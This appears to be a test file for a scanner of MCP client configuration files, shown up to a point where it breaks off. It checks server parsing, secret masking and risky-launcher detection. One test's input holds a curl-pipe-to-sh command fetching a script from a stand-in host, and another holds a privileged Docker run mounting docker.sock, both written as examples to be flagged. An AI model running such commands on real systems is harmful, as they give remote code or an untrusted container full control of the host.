import path from 'node:path';
import { MCP_CONFIG_FORMATS } from '../../src/formats/mcp/clients/index.js';
import { claudeCodeMcp } from '../../src/formats/mcp/clients/claude-code.js';
import { claudeDesktopConfig } from '../../src/formats/mcp/clients/claude-desktop.js';
import { codexConfig } from '../../src/formats/mcp/clients/codex.js';
import { continueMcp } from '../../src/formats/mcp/clients/continue.js';
import { cursorMcp } from '../../src/formats/mcp/clients/cursor.js';
import { geminiSettings } from '../../src/formats/mcp/clients/gemini.js';
import { genericMcpJson } from '../../src/formats/mcp/clients/mcp-json.js';
import { vscodeMcp } from '../../src/formats/mcp/clients/vscode.js';
import { windsurfMcp } from '../../src/formats/mcp/clients/windsurf.js';
import { zedSettings } from '../../src/formats/mcp/clients/zed.js';
import { urlSecret } from '../../src/redact/urls.js';
import type { Format } from '../../src/formats/format.js';
import { packageJson } from '../../src/formats/npm/package-json.js';
import { packageLock } from '../../src/formats/npm/package-lock.js';
import type { Dependency, FileIssue, McpServer, ParsedFile } from '../../src/types.js';
import { FIXTURES, fixture, fixtureFiles, lineOf, parseErrorOf, replaceOnce } from './helpers.js';

const DIR = 'mcp-configs';
const F = {
  claudeCode: `${DIR}/.mcp.json`,
  claudeDesktop: `${DIR}/claude_desktop_config.json`,
  cursor: `${DIR}/.cursor/mcp.json`,
  vscode: `${DIR}/.vscode/mcp.json`,
  gemini: `${DIR}/.gemini/settings.json`,
  codex: `${DIR}/.codex/config.toml`,
  zed: `${DIR}/.zed/settings.json`,
  windsurf: `${DIR}/.codeium/windsurf/mcp_config.json`,
  continueYaml: `${DIR}/.continue/mcpServers/playwright-mcp.yaml`,
  continueJson: `${DIR}/.continue/mcpServers/filesystem.json`,
  generic: `${DIR}/.roo/mcp.json`,
};

// Literal credentials are built at run time so no token-shaped string is committed.
const GHP = 'ghp_' + 'a1B2c3D4e5'.repeat(4);
const SK = 'sk-' + 'Zy9'.repeat(12);

function parse(format: Format, file: string, text = fixture(file)): Required<Pick<ParsedFile, 'deps' | 'servers' | 'issues'>> {
  const r = format.parse(text, file) as ParsedFile;
  return { deps: r.deps, servers: r.servers ?? [], issues: r.issues ?? [] };
}

function server(servers: McpServer[], key: string): McpServer {
  const s = servers.find((x) => x.key === key);
  if (s === undefined) throw new Error(`no server ${key}; have ${servers.map((x) => x.key).join(', ')}`);
  return s;
}

function brief(s: McpServer): [string, number, string, string | undefined, string | undefined] {
  return [s.key, s.line, s.transport, s.launcher, s.url];
}

function depBrief(d: Dependency): [string, string | undefined, string | undefined, string | undefined, number] {
  return [d.key, d.spec, d.specType, d.version, d.line];
}

describe('fixtures, one per client, as each client documents its config', () => {
  it('every fixture is read by exactly one format, with servers, unique keys and lines inside the file', () => {
    const files = fixtureFiles(path.join(FIXTURES, DIR));
    expect(files.length).toBe(Object.keys(F).length);
    for (const file of files) {
      const formats = MCP_CONFIG_FORMATS.filter((f) => f.matches(file));
      expect(formats).toHaveLength(1);
      const text = fixture(file);
      const { deps, servers, issues } = parse(formats[0], file, text);
      expect(servers.length).toBeGreaterThanOrEqual(1);
      const lines = text.split('\n').length;
      for (const x of [...deps, ...servers, ...issues]) {
        expect(x.line).toBeGreaterThanOrEqual(1);
        expect(x.line).toBeLessThanOrEqual(lines);
      }
      for (const x of [...deps, ...servers]) expect((x as { file: string }).file).toBe(file);
      const keys = [...deps, ...servers, ...issues].map((x) => x.key);
      expect(new Set(keys).size).toBe(keys.length);
      // The fixtures only use references and placeholders: nothing to report.
      expect(issues).toEqual([]);
    }
  });

  it('Claude Code .mcp.json: stdio, http and sse servers', () => {
    const text = fixture(F.claudeCode);
    const { deps, servers } = parse(claudeCodeMcp, F.claudeCode, text);
    expect(servers.map(brief)).toEqual([
      ['mcpServers/playwright', lineOf(text, '"playwright"'), 'stdio', 'npx', undefined],
      ['mcpServers/filesystem', lineOf(text, '"filesystem"'), 'stdio', 'npx', undefined],
      ['mcpServers/github', lineOf(text, '"github"'), 'http', undefined, 'https://api.githubcopilot.com/mcp/'],
      ['mcpServers/sentry', lineOf(text, '"sentry"'), 'sse', undefined, 'https://mcp.sentry.dev/sse'],
    ]);
    expect(server(servers, 'mcpServers/playwright')).toEqual({
      file: F.claudeCode,
      line: lineOf(text, '"playwright"'),
      key: 'mcpServers/playwright',
      name: 'playwright',
      client: 'claude-code',
      transport: 'stdio',
      command: 'npx',
      args: ['-y', '@playwright/mcp@0.0.41'],
      launcher: 'npx',
    });
    expect(deps).toEqual([
      {
        ecosystem: 'npm',
        name: '@playwright/mcp',
        version: '0.0.41',
        spec: '0.0.41',
        specType: 'version',
        file: F.claudeCode,
        line: lineOf(text, '"playwright"'),
        kind: 'config',
        key: 'mcpServers/playwright#npm:@playwright/mcp',
        server: 'mcpServers/playwright',
      },
      {
        ecosystem: 'npm',
        name: '@modelcontextprotocol/server-filesystem',
        spec: 'latest',
        specType: 'tag',
        file: F.claudeCode,
        line: lineOf(text, '"filesystem"'),
        kind: 'config',
        key: 'mcpServers/filesystem#npm:@modelcontextprotocol/server-filesystem',
        server: 'mcpServers/filesystem',
      },
    ]);
  });

  it('Claude Desktop: uvx, docker, mcp-remote', () => {
    const text = fixture(F.claudeDesktop);
    const { deps, servers } = parse(claudeDesktopConfig, F.claudeDesktop, text);
    expect(servers.map(brief)).toEqual([
      ['mcpServers/fetch', lineOf(text, '"fetch"'), 'stdio', 'uvx', undefined],
      ['mcpServers/github', lineOf(text, '"github"'), 'stdio', 'docker run', undefined],
      ['mcpServers/example-remote', lineOf(text, '"example-remote"'), 'http', 'npx', 'https://example.com/sse'],
      ['mcpServers/filesystem', lineOf(text, '"filesystem"'), 'stdio', 'npx', undefined],
    ]);
    expect(server(servers, 'mcpServers/github')).toMatchObject({ client: 'claude-desktop', env: ['GITHUB_PERSONAL_ACCESS_TOKEN'] });
    expect(deps.map(depBrief)).toEqual([
      ['mcpServers/fetch#pypi:mcp-server-fetch', '*', 'range', undefined, lineOf(text, '"fetch"')],
      ['mcpServers/github#oci:ghcr.io/github/github-mcp-server', 'latest', 'tag', undefined, lineOf(text, '"github"')],
      ['mcpServers/example-remote#npm:mcp-remote', 'latest', 'tag', undefined, lineOf(text, '"example-remote"')],
      ['mcpServers/filesystem#npm:@modelcontextprotocol/server-filesystem', 'latest', 'tag', undefined, lineOf(text, '"filesystem"')],
    ]);
    expect(deps[1]).toMatchObject({ ecosystem: 'oci', registry: 'ghcr.io' });
  });

  it('Cursor: a url server and env references', () => {
    const text = fixture(F.cursor);
    const { servers } = parse(cursorMcp, F.cursor, text);
    expect(servers.map(brief)).toEqual([
      ['mcpServers/playwright', lineOf(text, '"playwright"'), 'stdio', 'npx', undefined],
      ['mcpServers/github', lineOf(text, '"github"'), 'http', undefined, 'https://api.githubcopilot.com/mcp/'],
      ['mcpServers/fetch', lineOf(text, '"fetch"'), 'stdio', 'uvx', undefined],
    ]);
    expect(server(servers, 'mcpServers/fetch').env).toEqual(['FETCH_API_KEY']);
  });

  it('VS Code: JSONC, `servers`, inputs', () => {
    const text = fixture(F.vscode);
    const { deps, servers } = parse(vscodeMcp, F.vscode, text);
    expect(servers.map(brief)).toEqual([
      ['servers/github', lineOf(text, '"github"', '"servers"'), 'stdio', 'docker run', undefined],
      ['servers/github-remote', lineOf(text, '"github-remote"'), 'http', undefined, 'https://api.githubcopilot.com/mcp/'],
      ['servers/playwright', lineOf(text, '"playwright"'), 'stdio', 'npx', undefined],
    ]);
    expect(servers.every((s) => s.client === 'vscode')).toBe(true);
    expect(deps.map((d) => d.key)).toEqual(['servers/github#oci:ghcr.io/github/github-mcp-server', 'servers/playwright#npm:@playwright/mcp']);
  });

  it('Gemini CLI: url is SSE, httpUrl streamable HTTP; the rest of settings.json is ignored', () => {
    const text = fixture(F.gemini);
    const { servers } = parse(geminiSettings, F.gemini, text);
    expect(servers.map(brief)).toEqual([
      ['mcpServers/fetch', lineOf(text, '"fetch"'), 'stdio', 'uvx', undefined],
      ['mcpServers/github', lineOf(text, '"github"'), 'http', undefined, 'https://api.githubcopilot.com/mcp/'],
      ['mcpServers/legacy-sse', lineOf(text, '"legacy-sse"'), 'sse', undefined, 'https://example.com/sse'],
      ['mcpServers/filesystem', lineOf(text, '"filesystem"'), 'stdio', 'npx', undefined],
    ]);
  });

  it('Codex: one server per [mcp_servers.<name>] table, on the header line', () => {
    const text = fixture(F.codex);
    const { deps, servers } = parse(codexConfig, F.codex, text);
    expect(servers.map(brief)).toEqual([
      ['mcp_servers/playwright', lineOf(text, '[mcp_servers.playwright]'), 'stdio', 'npx', undefined],
      ['mcp_servers/fetch', lineOf(text, '[mcp_servers.fetch]'), 'stdio', 'uvx', undefined],
      ['mcp_servers/github', lineOf(text, '[mcp_servers.github]'), 'stdio', 'docker run', undefined],
      ['mcp_servers/copilot', lineOf(text, '[mcp_servers.copilot]'), 'http', undefined, 'https://api.githubcopilot.com/mcp/'],
    ]);
    expect(server(servers, 'mcp_servers/github')).toMatchObject({
      client: 'codex',
      env: ['GITHUB_TOOLSETS'],
      args: ['run', '-i', '--rm', '-e', 'GITHUB_PERSONAL_ACCESS_TOKEN', 'ghcr.io/github/github-mcp-server'],
    });
    expect(deps.map(depBrief)).toEqual([
      ['mcp_servers/playwright#npm:@playwright/mcp', '0.0.41', 'version', '0.0.41', lineOf(text, '[mcp_servers.playwright]')],
      ['mcp_servers/fetch#pypi:mcp-server-fetch', '*', 'range', undefined, lineOf(text, '[mcp_servers.fetch]')],
      ['mcp_servers/github#oci:ghcr.io/github/github-mcp-server', 'latest', 'tag', undefined, lineOf(text, '[mcp_servers.github]')],
    ]);
  });

  it('Zed: both command shapes, an extension server (not a launch), a remote', () => {
    const text = fixture(F.zed);
    const { deps, servers } = parse(zedSettings, F.zed, text);
    expect(servers.map(brief)).toEqual([
      ['context_servers/playwright', lineOf(text, '"playwright"'), 'stdio', 'npx', undefined],
      ['context_servers/fetch', lineOf(text, '"fetch"'), 'stdio', 'uvx', undefined],
      ['context_servers/mcp-server-github', lineOf(text, '"mcp-server-github"'), 'unknown', undefined, undefined],
      ['context_servers/remote-mcp-server', lineOf(text, '"remote-mcp-server"'), 'http', undefined, 'https://api.githubcopilot.com/mcp/'],
    ]);
    expect(server(servers, 'context_servers/fetch')).toMatchObject({ command: 'uvx', args: ['mcp-server-fetch'] });
    expect(server(servers, 'context_servers/mcp-server-github').command).toBeUndefined();
    expect(deps.map((d) => d.key)).toEqual(['context_servers/playwright#npm:@playwright/mcp', 'context_servers/fetch#pypi:mcp-server-fetch']);
  });

  it('Windsurf: serverUrl, and mcp-remote pinned', () => {
    const text = fixture(F.windsurf);
    const { deps, servers } = parse(windsurfMcp, F.windsurf, text);
    expect(servers.map(brief)).toEqual([
      ['mcpServers/github', lineOf(text, '"github"'), 'stdio', 'docker run', undefined],
      ['mcpServers/figma', lineOf(text, '"figma"'), 'http', undefined, 'https://mcp.figma.com/mcp'],
      ['mcpServers/example-remote', lineOf(text, '"example-remote"'), 'http', 'npx', 'https://example.com/sse'],
    ]);
    expect(deps.find((d) => d.name === 'mcp-remote')).toMatchObject({ version: '0.1.29', specType: 'version', server: 'mcpServers/example-remote' });
  });

  it('Continue YAML: a list of servers, each on the line of its name', () => {
    const text = fixture(F.continueYaml);
    const { deps, servers } = parse(continueMcp, F.continueYaml, text);
    expect(servers.map(brief)).toEqual([
      ['mcpServers/Browser search', lineOf(text, 'name: Browser search'), 'stdio', 'npx', undefined],
      ['mcpServers/fetch', lineOf(text, 'name: fetch'), 'stdio', 'uvx', undefined],
      ['mcpServers/GitHub', lineOf(text, 'name: GitHub'), 'http', undefined, 'https://api.githubcopilot.com/mcp/'],
    ]);
    expect(server(servers, 'mcpServers/Browser search').args).toEqual(['-y', '@playwright/mcp@0.0.41']);
    expect(deps.map(depBrief)).toEqual([
      ['mcpServers/Browser search#npm:@playwright/mcp', '0.0.41', 'version', '0.0.41', lineOf(text, 'name: Browser search')],
      ['mcpServers/fetch#pypi:mcp-server-fetch', '*', 'range', undefined, lineOf(text, 'name: fetch')],
    ]);
  });

  it('Continue JSON and a generic mcp.json', () => {
    const c = parse(continueMcp, F.continueJson);
    expect(c.servers.map((s) => [s.key, s.client])).toEqual([['mcpServers/filesystem', 'continue']]);
    const text = fixture(F.generic);
    const g = parse(genericMcpJson, F.generic, text);
    expect(g.servers.map(brief)).toEqual([
      ['mcpServers/local-weather', lineOf(text, '"local-weather"'), 'stdio', 'uv run', undefined],
      ['mcpServers/local-notes', lineOf(text, '"local-notes"'), 'stdio', 'node', undefined],
      ['mcpServers/fetch', lineOf(text, '"fetch"'), 'stdio', 'uvx', undefined],
    ]);
    expect(g.deps.map((d) => d.key)).toEqual(['mcpServers/fetch#pypi:mcp-server-fetch']);
  });
});

describe('matches', () => {
  it.each<[string, Format | undefined]>([
    ['.mcp.json', claudeCodeMcp],
    ['packages/app/.mcp.json', claudeCodeMcp],
    ['claude_desktop_config.json', claudeDesktopConfig],
    ['docs/examples/claude_desktop_config.json', claudeDesktopConfig],
    ['.cursor/mcp.json', cursorMcp],
    ['apps/web/.cursor/mcp.json', cursorMcp],
    ['.vscode/mcp.json', vscodeMcp],
    ['.gemini/settings.json', geminiSettings],
    ['.codex/config.toml', codexConfig],
    ['.zed/settings.json', zedSettings],
    ['dotfiles/.config/zed/settings.json', zedSettings],
    ['.codeium/windsurf/mcp_config.json', windsurfMcp],
    ['mcp_config.json', windsurfMcp],
    ['.continue/mcpServers/a.yaml', continueMcp],
    ['.continue/mcpServers/a.yml', continueMcp],
    ['.continue/mcpServers/a.json', continueMcp],
    ['.continue/mcpServers/mcp.json', continueMcp],
    ['.continue/mcpServers/claude_desktop_config.json', continueMcp],
    ['.continue/config.yaml', continueMcp],
    ['mcp.json', genericMcpJson],
    ['.roo/mcp.json', genericMcpJson],
    ['.kiro/settings/mcp.json', genericMcpJson],
    ['node_modules/x/.mcp.json', undefined],
    ['node_modules/@s/x/.cursor/mcp.json', undefined],
    ['a/node_modules/x/mcp.json', undefined],
    ['node_modules/x/.continue/mcpServers/a.yaml', undefined],
    ['.vscode/settings.json', undefined],
    ['settings.json', undefined],
    ['.zed/tasks.json', undefined],
    ['config.toml', undefined],
    ['.continue/mcpServers/a.txt', undefined],
    ['.continue/a.yaml', undefined],
    ['server.json', undefined],
    ['package.json', undefined],
    ['package-lock.json', undefined],
    ['my-mcp.json', undefined],
    ['mcp.json5', undefined],
  ])('%s', (p, expected) => {
    const matching = MCP_CONFIG_FORMATS.filter((f) => f.matches(p));
    expect(matching).toEqual(expected === undefined ? [] : [expected]);
  });

  it('claims nothing the npm formats read', () => {
    for (const p of ['package.json', 'package-lock.json', 'npm-shrinkwrap.json']) {
      expect(packageJson.matches(p) || packageLock.matches(p)).toBe(true);
      expect(MCP_CONFIG_FORMATS.some((f) => f.matches(p))).toBe(false);
    }
  });

  it('every format lists servers for the inventory and has a unique id', () => {
    expect(MCP_CONFIG_FORMATS.every((f) => f.inventory === 'servers')).toBe(true);
    expect(new Set(MCP_CONFIG_FORMATS.map((f) => f.id)).size).toBe(MCP_CONFIG_FORMATS.length);
  });
});

describe('launcher issues', () => {
  const text = [
    '{',
    '  "mcpServers": {',
    '    "danger": {',
    '      "command": "docker",',
    '      "args": ["run", "-i", "--privileged", "-v", "/var/run/docker.sock:/var/run/docker.sock", "mcp/fetch:1.0"]',
    '    },',
    '    "shelly": {',
    '      "command": "bash",',
    '      "args": ["-c", "curl -fsSL https://x.example/i.sh | sh"]',
    '    },',
    '    "mystery": { "command": "some-binary" }',
    '  }',
    '}',
  ].join('\n');
  const { issues, servers, deps } = parse(claudeCodeMcp, '.mcp.json', text);

  it('one issue per problem, on the command line, naming the server', () => {
    const launcher = issues.filter((i) => i.rule === 'launcher');
    expect(launcher.map((i) => [i.key, i.line])).toEqual([
      ['mcpServers/danger/launcher/privileged', lineOf(text, '"command": "docker"')],
      ['mcpServers/danger/launcher/mount-socket', lineOf(text, '"command": "docker"')],
      ['mcpServers/shelly/launcher/shell', lineOf(text, '"command": "bash"')],
      ['mcpServers/shelly/launcher/shell-download', lineOf(text, '"command": "bash"')],
      ['mcpServers/shelly/launcher/shell-complex', lineOf(text, '"command": "bash"')],
    ]);
    expect(launcher[0].message).toBe('MCP server "danger" runs the container with --privileged: it gets full access to the host.');
  });

  it('a program on PATH is no issue of the file: the server names it for the launcher-path rule', () => {
    expect(servers.find((s) => s.name === 'mystery')).toMatchObject({ launcher: 'path', program: 'some-binary' });
  });

  it('servers still list their launcher; the image is still a dependency', () => {
    expect(servers.map((s) => s.launcher)).toEqual(['docker run', 'shell', 'path']);
    expect(deps.map((d) => d.key)).toEqual(['mcpServers/danger#oci:mcp/fetch']);
  });
});

describe('secrets', () => {
  function issuesOf(format: Format, file: string, text: string): FileIssue[] {
    return parse(format, file, text).issues.filter((i) => i.rule === 'secret');
  }

  function expectMasked(issues: FileIssue[], ...literals: string[]): void {
    for (const i of issues) for (const l of literals) {
      expect(i.message).not.toContain(l);
      expect(i.key).not.toContain(l);
    }
  }

  it('literal env and header values, on the line of their key', () => {
    const text = JSON.stringify(
      {
        mcpServers: {
          github: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-github@2025.4.8'], env: { GITHUB_PERSONAL_ACCESS_TOKEN: GHP, LOG_LEVEL: 'debug' } },
          remote: { type: 'http', url: 'https://mcp.example.com/mcp', headers: { Authorization: `Bearer ${SK}`, 'X-Client': 'gate' } },
        },
      },
      null,
      2,
    );
    const issues = issuesOf(cursorMcp, '.cursor/mcp.json', text);
    expect(issues.map((i) => [i.key.replace(/#[0-9a-f]{12}$/, '#fp'), i.line])).toEqual([
      ['mcpServers/github/env/GITHUB_PERSONAL_ACCESS_TOKEN#fp', lineOf(text, '"GITHUB_PERSONAL_ACCESS_TOKEN"')],
      ['mcpServers/remote/headers/Authorization#fp', lineOf(text, '"Authorization"')],
    ]);
    expect(issues[0].message).toMatch(/^env GITHUB_PERSONAL_ACCESS_TOKEN of MCP server "github" is a literal GitHub token \(ghp_\*\*\*\*\)/);
    expect(issues[1].message).toMatch(/^header Authorization of MCP server "remote" is a literal OpenAI API key/);
    expectMasked(issues, GHP, SK);
  });

  it('credentials in args: --flag=value, --flag value, KEY=value, a header, a bare token', () => {
    const lines = [
      '{',
      '  "mcpServers": {',
      '    "a": {',
      '      "command": "npx",',
      '      "args": [',
      '        "-y",',
      '        "mcp-remote@0.1.29",',
      '        "https://mcp.example.com/sse",',
      '        "--header",',
      `        "Authorization: Bearer ${GHP}",`,
      `        "--api-key=${SK}",`,
      '        "--token",',
      '        "hunter2hunter2xyz",',
      '        "--port",',
      '        "8080"',
      '      ]',
      '    },',
      '    "b": {',
      '      "command": "docker",',
      `      "args": ["run", "-i", "-e", "SLACK_BOT_TOKEN=xoxb-${'1234567890'.repeat(2)}", "mcp/slack:1.0", "${GHP.replace('a1', 'z9')}"]`,
      '    }',
      '  }',
      '}',
    ];
    const text = lines.join('\n');
    const issues = issuesOf(claudeCodeMcp, '.mcp.json', text);
    expect(issues.map((i) => [i.key.replace(/#[0-9a-f]{12}$/, ''), i.line])).toEqual([
      ['mcpServers/a/args/Authorization', lineOf(text, 'Authorization: Bearer')],
      ['mcpServers/a/args/--api-key', lineOf(text, '--api-key=')],
      ['mcpServers/a/args/--token', lineOf(text, '"hunter2hunter2xyz"')],
      ['mcpServers/b/args/SLACK_BOT_TOKEN', lineOf(text, 'SLACK_BOT_TOKEN=')],
      ['mcpServers/b/args', lineOf(text, 'SLACK_BOT_TOKEN=')],
    ]);
    expectMasked(issues, GHP, SK, 'hunter2hunter2xyz');
  });

  it('references, placeholders and VS Code password inputs are not secrets', () => {
    const text = [
      '{',
      '  "inputs": [{ "type": "promptString", "id": "api-key", "description": "API key", "password": true }],',
      '  "servers": {',
      '    "x": {',
      '      "command": "npx",',
      '      "args": ["-y", "x-mcp@1.0.0", "--api-key", "${input:api-key}", "--token=${env:TOKEN}"],',
      '      "env": { "API_KEY": "${input:api-key}", "TOKEN": "$TOKEN", "PASSWORD": "<your-password>" },',
      '      "headers": { "Authorization": "Bearer ${input:api-key}" }',
      '    },',
      // Shape of modelcontextprotocol/python-sdk@37a6bb07:tests/client/config/mcp.json, a test fixture.
      '    "streamable_http_server_with_headers": { "url": "https://api.example.com/mcp", "headers": { "Authorization": "Bearer token123", "X-Api-Key": "apikey1" } }',
      '  }',
      '}',
    ].join('\n');
    expect(issuesOf(vscodeMcp, '.vscode/mcp.json', text)).toEqual([]);
    // A credential-like word that is more than a name and a counter is still one.
    const real = text.replace('Bearer token123', 'Bearer token123x9Qv');
    expect(issuesOf(vscodeMcp, '.vscode/mcp.json', real).map((i) => i.rule)).toEqual(['secret']);
  });

  it('a password input with a literal default is a secret, on the line of the default', () => {
    const text = [
      '{',
      '  "inputs": [',
      '    {',
      '      "type": "promptString",',
      '      "id": "db-password",',
      '      "password": true,',
      '      "default": "c0rrect-h0rse-battery"',
      '    }',
      '  ],',
      '  "servers": {}',
      '}',
    ].join('\n');
    const issues = issuesOf(vscodeMcp, '.vscode/mcp.json', text);
    expect(issues.map((i) => [i.key.replace(/#[0-9a-f]{12}$/, ''), i.line])).toEqual([['inputs/db-password/default', lineOf(text, '"default"')]]);
    expectMasked(issues, 'c0rrect-h0rse-battery');
  });

  it('URLs with credentials: userinfo, a token query parameter, a token in the path', () => {
    const text = JSON.stringify(
      {
        mcpServers: {
          basic: { url: 'https://alice:s3cretPassw0rd@mcp.example.com/mcp' },
          query: { serverUrl: `https://mcp.example.com/sse?api_key=${SK}` },
          path: { url: `https://mcp.example.com/${GHP}/sse` },
          fine: { url: 'https://mcp.example.com/sse?token=${MCP_TOKEN}&region=eu' },
        },
      },
      null,
      2,
    );
    const issues = issuesOf(windsurfMcp, 'mcp_config.json', text);
    expect(issues.map((i) => [i.key.replace(/#[0-9a-f]{12}$/, ''), i.line])).toEqual([
      ['mcpServers/basic/url', lineOf(text, '"url"', '"basic"')],
      ['mcpServers/query/serverUrl', lineOf(text, '"serverUrl"')],
      ['mcpServers/path/url', lineOf(text, '"url"', '"path"')],
    ]);
    expectMasked(issues, 's3cretPassw0rd', SK, GHP);
    expect(urlSecret('https://api.githubcopilot.com/mcp/')).toBeUndefined();
    expect(urlSecret('https://user@host.example/')).toBeUndefined();
  });

  it('Zed extension settings holding a token', () => {
    const text = [
      '{',
      '  "context_servers": {',
      '    "mcp-server-github": {',
      '      "source": "extension",',
      '      "settings": {',
      `        "github_personal_access_token": "${GHP}"`,
      '      }',
      '    }',
      '  }',
      '}',
    ].join('\n');
    const issues = issuesOf(zedSettings, '.zed/settings.json', text);
    expect(issues.map((i) => [i.key.replace(/#[0-9a-f]{12}$/, ''), i.line])).toEqual([
      ['context_servers/mcp-server-github/settings/github_personal_access_token', lineOf(text, '"github_personal_access_token"')],
    ]);
    expectMasked(issues, GHP);
  });

  it('Codex env tables and http_headers, on the line of the key', () => {
    const text = [
      '[mcp_servers.github]',
      'command = "npx"',
      'args = ["-y", "@modelcontextprotocol/server-github@2025.4.8"]',
      '',
      '[mcp_servers.github.env]',
      `GITHUB_PERSONAL_ACCESS_TOKEN = "${GHP}"`,
      '',
      '[mcp_servers.remote]',
      'url = "https://mcp.example.com/mcp"',
      `http_headers = { "Authorization" = "Bearer ${SK}" }`,
    ].join('\n');
    const issues = issuesOf(codexConfig, '.codex/config.toml', text);
    expect(issues.map((i) => [i.key.replace(/#[0-9a-f]{12}$/, ''), i.line])).toEqual([
      ['mcp_servers/github/env/GITHUB_PERSONAL_ACCESS_TOKEN', lineOf(text, 'GITHUB_PERSONAL_ACCESS_TOKEN =')],
      ['mcp_servers/remote/headers/Authorization', lineOf(text, 'http_headers')],
    ]);
    expectMasked(issues, GHP, SK);
  });

  it('Continue YAML env, on the line of the key', () => {
    const text = ['name: x', 'version: 0.0.1', 'schema: v1', 'mcpServers:', '  - name: github', '    command: npx', '    args: ["-y", "@modelcontextprotocol/server-github@2025.4.8"]', '    env:', `      GITHUB_TOKEN: ${GHP}`].join('\n');
    const issues = issuesOf(continueMcp, '.continue/mcpServers/github.yaml', text);
    expect(issues.map((i) => [i.key.replace(/#[0-9a-f]{12}$/, ''), i.line])).toEqual([['mcpServers/github/env/GITHUB_TOKEN', lineOf(text, 'GITHUB_TOKEN:')]]);
    expectMasked(issues, GHP);
  });
});

describe('keys are stable between versions of a file', () => {
  it('reordering servers and adding one changes no key and no other line meaning', () => {
    const base = fixture(F.claudeCode);
    const head = JSON.stringify(
      {
        mcpServers: {
          added: { command: 'uvx', args: ['mcp-server-time'] },
          ...Object.fromEntries(Object.entries(JSON.parse(base).mcpServers).reverse()),
        },
      },
      null,
      2,
    );
    const a = parse(claudeCodeMcp, F.claudeCode, base);
    const b = parse(claudeCodeMcp, F.claudeCode, head);
    const keys = (r: typeof a): string[] => [...r.deps, ...r.servers].map((x) => x.key).sort();
    expect(keys(b)).toEqual([...keys(a), 'mcpServers/added', 'mcpServers/added#pypi:mcp-server-time'].sort());
    for (const d of b.deps) expect(d.line).toBe(lineOf(head, `"${d.server!.split('/')[1]}"`));
  });
});

describe('files that match but hold no servers', () => {
  it.each<[Format, string, string]>([
    [geminiSettings, '.gemini/settings.json', '{ "theme": "GitHub", "mcp": { "allowed": [] } }'],
    [zedSettings, '.zed/settings.json', '// nothing yet\n{ "tab_size": 2, }'],
    [codexConfig, '.codex/config.toml', 'model = "gpt-5"\n[profiles.fast]\nmodel = "o4-mini"\n'],
    [continueMcp, '.continue/config.yaml', 'name: assistant\nversion: 0.0.1\nmodels:\n  - name: x\n    provider: ollama\n'],
    [continueMcp, '.continue/mcpServers/empty.yaml', ''],
    [vscodeMcp, '.vscode/mcp.json', '{ "servers": {} }'],
    [claudeCodeMcp, '.mcp.json', '{ "mcpServers": null }'],
  ])('%#: empty result', (format, file, text) => {
    expect(parse(format, file, text)).toEqual({ deps: [], servers: [], issues: [] });
  });
});

describe('malformed files', () => {
  it('a JSON syntax error, at its line', () => {
    const text = replaceOnce(fixture(F.cursor), '"args": ["-y", "@playwright/mcp@0.0.41"]', '"args": ["-y" "@playwright/mcp@0.0.41"]');
    expect(parseErrorOf(() => cursorMcp.parse(text, F.cursor)).line).toBe(lineOf(text, '"-y" "@playwright'));
  });

  it('comments and trailing commas are tolerated everywhere (JSONC)', () => {
    const text = replaceOnce(fixture(F.claudeCode), '"mcpServers": {', '"mcpServers": { // project servers');
    expect(parse(claudeCodeMcp, F.claudeCode, text).servers).toHaveLength(4);
  });

  it.each<[string, string, string, RegExp]>([
    ['servers section of the wrong type', '{\n  "mcpServers": [\n    "npx -y x"\n  ]\n}', '[', /^mcpServers must be an object, found an array$/],
    ['a server that is a string', '{\n  "mcpServers": {\n    "x": "npx -y x"\n  }\n}', '"npx -y x"', /^mcpServers\.x must be an object, found a string/],
    ['a command that is an array', '{\n  "mcpServers": {\n    "x": {\n      "command": ["npx"]\n    }\n  }\n}', '["npx"]', /^mcpServers\.x\.command must be a string, found an array$/],
    ['args that are a string', '{\n  "mcpServers": {\n    "x": {\n      "command": "npx",\n      "args": "-y x"\n    }\n  }\n}', '"-y x"', /^mcpServers\.x\.args must be an array of strings/],
    ['an arg that is a number', '{\n  "mcpServers": {\n    "x": {\n      "command": "npx",\n      "args": ["-y",\n        8080]\n    }\n  }\n}', '8080', /^mcpServers\.x\.args\[1\] must be a string, found a number \(8080\)$/],
    ['env that is an array', '{\n  "mcpServers": {\n    "x": {\n      "command": "npx",\n      "env": ["A=1"]\n    }\n  }\n}', '["A=1"]', /^mcpServers\.x\.env must be an object/],
    ['an env value that is an object', '{\n  "mcpServers": {\n    "x": {\n      "env": {\n        "A": { "v": 1 }\n      }\n    }\n  }\n}', '{ "v"', /^mcpServers\.x\.env\.A must be a string/],
    ['a url that is a number', '{\n  "mcpServers": {\n    "x": {\n      "url": 42\n    }\n  }\n}', '42', /^mcpServers\.x\.url must be a string/],
    ['a top-level array', '\n[]', '[]', /must be a JSON object, found an array$/],
  ])('%s', (_name, text, needle, message) => {
    const err = parseErrorOf(() => claudeCodeMcp.parse(text, '.mcp.json'));
    expect(err.line).toBe(lineOf(text, needle));
    expect(err.message).toMatch(message);
    expect(err.file).toBe('.mcp.json');
  });

  it('VS Code inputs that are not a list', () => {
    const text = '{\n  "inputs": {\n    "id": "x"\n  },\n  "servers": {}\n}';
    expect(parseErrorOf(() => vscodeMcp.parse(text, '.vscode/mcp.json'))).toMatchObject({ line: lineOf(text, '"inputs"'), message: 'inputs must be an array, found an object' });
  });

  it('Zed context_servers of the wrong type', () => {
    const text = '{\n  "context_servers": true\n}';
    expect(parseErrorOf(() => zedSettings.parse(text, '.zed/settings.json')).line).toBe(lineOf(text, 'true'));
  });

  it('empty files, binary garbage, absurd nesting', () => {
    expect(parseErrorOf(() => claudeCodeMcp.parse('', '.mcp.json')).line).toBe(1);
    const garbage = '{\n"a": 1,\n\u0000\u0001\u00ff\u0000';
    expect(parseErrorOf(() => claudeCodeMcp.parse(garbage, '.mcp.json')).line).toBe(lineOf(garbage, '\u0000'));
    const yamlGarbage = 'name: x\n\u0000\u0007';
    expect(parseErrorOf(() => continueMcp.parse(yamlGarbage, '.continue/mcpServers/x.yaml')).line).toBe(lineOf(yamlGarbage, '\u0000'));
    const tomlGarbage = 'a = 1\n\u0000';
    expect(parseErrorOf(() => codexConfig.parse(tomlGarbage, '.codex/config.toml')).line).toBe(lineOf(tomlGarbage, '\u0000'));
    // A single line: the error can only be on line 1.
    const deep = `{"mcpServers": {"x": {"settings": ${'['.repeat(100_000)}${']'.repeat(100_000)}}}}`;
    expect(parseErrorOf(() => claudeCodeMcp.parse(deep, '.mcp.json'))).toMatchObject({ line: 1, message: expect.stringMatching(/nested too deeply/) });
